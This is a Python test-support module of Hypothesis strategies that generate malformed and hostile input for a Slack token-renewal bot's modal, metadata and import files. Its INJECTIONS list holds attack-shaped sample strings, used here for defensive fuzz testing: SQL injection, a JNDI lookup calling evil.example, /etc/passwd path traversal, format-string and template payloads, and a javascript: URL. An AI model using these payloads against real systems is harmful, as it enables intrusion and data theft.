"""Hypothesis strategies for hostile input: what a careless paste, a confused client or an attacker sends.

Strings are oversized (up to ~10k characters), Unicode-heavy (emoji, right-to-left, combining marks,
NUL and other control characters; never lone surrogates, which JSON and UTF-8 cannot carry),
injection-shaped (SQL, Slack markup, format strings) or near-valid. Values are also wrongly typed
(numbers, lists, objects, null where text is expected) or missing altogether (the MISSING sentinel).
"""

from __future__ import annotations

import json
from datetime import UTC, date, datetime, timedelta, timezone

from hypothesis import strategies as st


class _Missing:
    def __repr__(self) -> str:
        return "MISSING"


MISSING = _Missing()  # "leave this key out of the payload"

INJECTIONS = (
    "'; DROP TABLE token; --",
    "' OR '1'='1",
    "sp' --",
    "\"; DELETE FROM renewal; --",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U123>",
    "<@U0OWNER>",
    "<!subteam^S0OPS>",
    "<#C0ALERTS>",
    "<https://evil.example|click me>",
    "*bold* _it_ ~st~ `code` ```block```",
    "&lt;!channel&gt;",
    "{0}",
    "{0!r:>99999}",
    "{token.secret_encrypted}",
    "%s%s%s%n",
    "%(secret)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "\\",
    "\\u0000",
    "null",
    "None",
    "[]",
    "{}",
    "{\"token_id\": \"sp\"}",
    "true",
    "-1",
    "1e309",
    "NaN",
)

# Characters that break naive assumptions: control characters (NUL first), bidi overrides,
# zero-width and combining marks, emoji with joiners and variation selectors, odd spaces.
AWKWARD_CHARS = (
    "\x00", "\x01", "\x07", "\x08", "\t", "\n", "\x0b", "\x0c", "\r", "\x1b", "\x7f", "\x85", "\xa0",
    "\u200b", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202e", "\u2066", "\u2069",
    "\u0301", "\u0336", "\u0489", "\ufeff", "\ufffd", "\uffff", "\U0001f600", "\U0001f469\u200d\U0001f4bb",
    "\u2764\ufe0f", "\U0001f1ec\U0001f1e7", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627",
    "\u3000", "\u0130", "\u00df", "\u212a", "\ufb01",
)

any_char = st.characters(exclude_categories=("Cs",))  # everything but lone surrogates
awkward_char = st.sampled_from(AWKWARD_CHARS)
short_text = st.text(any_char, max_size=40)
# Joined lists, not st.text: some awkward "characters" are clusters (emoji sequences, words).
awkward_text = st.lists(st.one_of(awkward_char, any_char), min_size=1, max_size=30).map("".join)


def _repeat(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


# Up to ~10k characters, built by repetition: generating 10k independent characters is slow.
oversized_text = st.builds(_repeat, st.lists(st.one_of(awkward_char, any_char), min_size=1, max_size=8).map("".join),
                           st.integers(min_value=1_000, max_value=10_000))

hostile_text = st.one_of(
    short_text,
    awkward_text,
    st.sampled_from(INJECTIONS),
    oversized_text,
    st.just(""),
    st.sampled_from((" ", "\t\n ", "\x00", "\u200b")),
    st.lists(st.one_of(st.sampled_from(INJECTIONS), awkward_text, short_text), min_size=2, max_size=4).map("".join),
)

json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
    st.floats(allow_nan=False, allow_infinity=False), short_text,
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(short_text, inner, max_size=4)),
    max_leaves=8,
)

# Where text is expected: numbers, lists, objects, null, booleans instead.
wrong_type = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.lists(json_scalars, max_size=3), st.dictionaries(short_text, json_scalars, max_size=3),
)

hostile_value = st.one_of(hostile_text, wrong_type)


def near(refs: list[str]) -> st.SearchStrategy[str]:
    """A known reference, damaged: case changed, padded, wrapped in markup, or with something appended."""
    ref = st.sampled_from(refs)
    return st.one_of(
        ref,
        ref.map(str.upper),
        st.tuples(ref, st.sampled_from(("  ", "\t", "\n", "\u00a0", "\u200b", "\x00")))
        .map(lambda t: t[1] + t[0] + t[1]),
        st.tuples(ref, st.one_of(awkward_text, st.sampled_from(INJECTIONS))).map("".join),
        st.tuples(st.sampled_from(INJECTIONS), ref).map("".join),
        ref.map(lambda r: f"<@{r}>"),
        ref.map(lambda r: r[:-1]),
    )


# --- the renewal modal -------------------------------------------------------------------

def secrets(prefix: str = "Atzr|") -> st.SearchStrategy:
    """Near-valid and hostile new secrets, as a person might paste them."""
    tail = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7e), min_size=1, max_size=60)
    valid = tail.map(lambda t: prefix + t)
    return st.one_of(
        valid, valid, valid,  # valid for its kind (listed thrice: a third of the draws, so renewals happen too)
        st.tuples(st.sampled_from(("", " ", "\n", "\t ")), tail, st.sampled_from(("", " ", "\r\n"))).map(
            lambda t: t[0] + prefix + t[1] + t[2]),  # pasted with surrounding whitespace
        st.tuples(tail, awkward_text).map(lambda t: prefix + t[0] + t[1]),  # control characters inside
        st.integers(min_value=2_990, max_value=3_010).map(lambda n: prefix + _repeat("k", n - len(prefix))),
        oversized_text.map(lambda t: prefix + t),
        st.sampled_from(("Atza|access-token", "atzr|lower", "amzn.mws.not-a-uuid",
                         "amzn.mws.1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d")),
        hostile_text,
    )


class RelDate:
    """A date relative to the token's current expiry, resolved when the example runs."""

    def __init__(self, days: int) -> None:
        self.days = days

    def __repr__(self) -> str:
        return f"RelDate({self.days})"

    def resolve(self, current: date) -> str:
        try:
            return (current + timedelta(days=self.days)).isoformat()
        except OverflowError:
            return "9999-12-31" if self.days > 0 else "0001-01-01"


relative_dates = st.one_of(st.integers(min_value=1, max_value=4_000), st.integers(min_value=1, max_value=4_000),
                           st.integers(min_value=-400, max_value=0)).map(RelDate)
expiry_values = st.one_of(
    relative_dates, relative_dates,
    st.sampled_from(("2027-02-30", "2027-13-01", "0001-01-01", "9999-12-31", "20281201", "2028-W01-1",
                     "2028-12-01T00:00:00", "2028-12-01 ", " 2028-12-01", "01/12/2028", "")),
    hostile_value,
)

option_lists = st.one_of(
    st.lists(st.one_of(st.fixed_dictionaries({"value": st.one_of(st.sampled_from(("acc-a", "acc-b")), hostile_value)}),
                       wrong_type), max_size=4),
    wrong_type,
)


typed_options = st.lists(st.fixed_dictionaries({"value": st.one_of(st.sampled_from(("acc-a", "acc-b")), hostile_text)}),
                         max_size=4)


@st.composite
def modal_mutations(draw, typed: bool = False) -> list[tuple]:
    """Edits to the modal's state.values: ("set", block, field, value), ("drop", block, field) or
    ("block", block, value) for a whole block (wrongly typed, or a junk block Slack never sent).

    typed=True keeps Slack's types (text or null where Slack sends text): hostile content, no wrong types.
    """
    text_or_null = st.one_of(hostile_text, st.none())
    edits = []
    rarely_missing = draw(st.integers(0, 5)) == 0
    secret = MISSING if rarely_missing else draw(st.one_of(secrets(), st.none()) if typed else secrets())
    edits.append(("drop", "secret", "value") if secret is MISSING else ("set", "secret", "value", secret))
    choice = draw(st.integers(0, 5))  # 0: drop the date, 1: keep the form's default, else a drawn one
    expiry = MISSING if choice == 0 else None if choice == 1 else draw(
        st.one_of(relative_dates, text_or_null) if typed else expiry_values)
    if choice != 1:
        edits.append(("drop", "expiry", "selected_date") if expiry is MISSING
                     else ("set", "expiry", "selected_date", expiry))
    for block in ("reenable:0", "nofetch:0"):
        if draw(st.booleans()):
            edits.append(("set", block, "selected_options", draw(typed_options if typed else option_lists)))
    if draw(st.integers(0, 3)) == 0:
        value = st.one_of(st.just("sp"), near(["sp", "gen"]), hostile_text if typed else hostile_value)
        option = st.fixed_dictionaries({"value": value})
        edits.append(("set", "token", "selected_option", draw(option if typed else st.one_of(option, wrong_type))))
    if not typed and draw(st.integers(0, 4)) == 0:
        edits.append(("block", draw(st.sampled_from(("secret", "expiry", "token", "reenable:0", "reenable:9", "junk"))),
                      draw(st.one_of(wrong_type, st.dictionaries(short_text, json_values, max_size=2)))))
    return edits


# --- private_metadata ------------------------------------------------------------------------

CURRENT = object()  # "the token's current version", resolved when the example runs

_hostile_version = st.one_of(st.integers(min_value=-3, max_value=5),
                              st.sampled_from((2 ** 31, 2 ** 63, 2 ** 64, 2 ** 70, -(2 ** 63) - 1)), wrong_type)


@st.composite
def near_valid_metadata(draw) -> dict:
    """What the bot wrote ({"token_id": "sp", "version": CURRENT, "channel": ...}), often with one thing broken."""
    doc = {"token_id": "sp", "version": CURRENT, "channel": "C0ALERTS"}
    what = draw(st.sampled_from(("intact", "drop", "token_id", "version", "channel", "extra")))
    if what == "drop":
        del doc[draw(st.sampled_from(sorted(doc)))]
    elif what == "token_id":
        doc["token_id"] = draw(st.one_of(near(["sp"]), hostile_value))
    elif what == "version":
        doc["version"] = draw(_hostile_version)
    elif what == "channel":
        doc["channel"] = draw(hostile_value)
    elif what == "extra":
        doc[draw(short_text)] = draw(json_values)
    return doc


metadata_docs = st.one_of(
    near_valid_metadata(),
    st.fixed_dictionaries({}, optional={
        "token_id": st.one_of(st.just("sp"), st.just("gen"), near(["sp"]), hostile_value),
        "version": st.one_of(st.just(CURRENT), _hostile_version),
        "channel": hostile_value,
        "extra": json_values,
    }),
    json_values,
)


def render_metadata(doc, current_version: int) -> str:
    if isinstance(doc, dict) and doc.get("version") is CURRENT:
        doc = {**doc, "version": current_version}
    return json.dumps(doc)


private_metadata = st.one_of(metadata_docs.map(lambda d: ("doc", d)), hostile_text.map(lambda t: ("raw", t)))


# --- import files ----------------------------------------------------------------------------

def base_import() -> dict:
    """A valid import file: every field used once."""
    return {
        "accounts": [
            {"id": "acc-a", "name": "Account A", "enabled": True, "fetch_orders": True,
             "settings_url": "https://commerce.example/accounts/acc-a"},
            {"id": "acc-b", "name": "Account B", "enabled": False, "fetch_orders": False},
        ],
        "tokens": [
            {"id": "tok-1", "kind": "amazon-mws", "name": "Token one", "expires_at": date(2027, 6, 1),
             "channel": "C0ALERTS", "owners": ["U0OWNER", "S0GROUP"], "accounts": ["acc-a", "acc-b"],
             "app_id": "532089569783", "notify_days": [30, 7, 1]},
            {"id": "tok-2", "kind": "generic", "name": "Token two",
             "expires_at": datetime(2027, 1, 20, 9, 30, tzinfo=UTC), "channel": "C0OPS"},
        ],
    }


ACCOUNT_FIELDS = ("id", "name", "enabled", "fetch_orders", "settings_url")
TOKEN_FIELDS = ("id", "kind", "name", "expires_at", "channel", "owners", "accounts", "app_id", "notify_days")

yaml_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70), st.floats(), short_text,
    st.dates(), st.datetimes(timezones=st.one_of(st.none(), st.timezones(), st.just(timezone(timedelta(hours=-12))))),
)
yaml_keys = st.one_of(short_text, st.sampled_from(ACCOUNT_FIELDS + TOKEN_FIELDS + ("accounts", "tokens")),
                      st.integers(min_value=-5, max_value=5), st.none(), st.booleans(), st.dates())
yaml_values = st.recursive(
    yaml_scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(yaml_keys, inner, max_size=4)),
    max_leaves=12,
)

edge_dates = st.one_of(
    st.sampled_from((date(1, 1, 1), date(1, 1, 31), date(9999, 12, 31), "0001-01-01", "9999-12-31",
                     "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00", "2027-02-30", "2027-13-01",
                     "2027-06-01Z", "2027-06-01T25:00:00", "", " ", "tomorrow", "20270601")),
    st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59),
                 timezones=st.one_of(st.none(), st.timezones())),
    st.dates(),
)
# One field's replacement: wrongly typed, hostile text, edge values for its kind.
field_values = st.one_of(
    wrong_type, hostile_text, edge_dates, yaml_values,
    st.sampled_from(("C0123", "c0123", "C", "C0\n", "U0OWNER", "S0GROUP", "amazon-sp-api", "AMAZON-MWS",
                     "https://x", "javascript:alert(1)", "http://a b", "acc-a", "tok-1", "x" * 151, "C" + "0" * 60)),
    st.lists(st.one_of(st.integers(min_value=-2, max_value=400), st.sampled_from(("U0A", "S0B", "acc-a", "acc-zz"))),
             max_size=4),
)


@st.composite
def near_valid_import(draw) -> dict:
    """The valid file with one thing broken: a field mutated, dropped or added, an entry or a section replaced."""
    doc = base_import()
    what = draw(st.sampled_from(("field", "field", "field", "drop", "unknown", "entry", "section", "top")))
    section = draw(st.sampled_from(("accounts", "tokens")))
    entries = doc[section]
    index = draw(st.integers(0, len(entries) - 1))
    fields = ACCOUNT_FIELDS if section == "accounts" else TOKEN_FIELDS
    if what == "field":
        entries[index][draw(st.sampled_from(fields))] = draw(field_values)
    elif what == "drop":
        entries[index].pop(draw(st.sampled_from(fields)), None)
    elif what == "unknown":
        entries[index][draw(yaml_keys)] = draw(yaml_values)
    elif what == "entry":
        entries[index] = draw(yaml_values)
    elif what == "section":
        doc[section] = draw(yaml_values)
    else:
        doc[draw(yaml_keys)] = draw(yaml_values)
    return doc


import_documents = st.one_of(
    near_valid_import().map(lambda d: ("data", d)),
    near_valid_import().map(lambda d: ("data", d)),
    yaml_values.map(lambda d: ("data", d)),
    st.dictionaries(st.sampled_from(("accounts", "tokens")), yaml_values, max_size=2).map(lambda d: ("data", d)),
    st.text(any_char, max_size=200).map(lambda t: ("text", t)),
    st.binary(max_size=200).map(lambda b: ("bytes", b)),
)
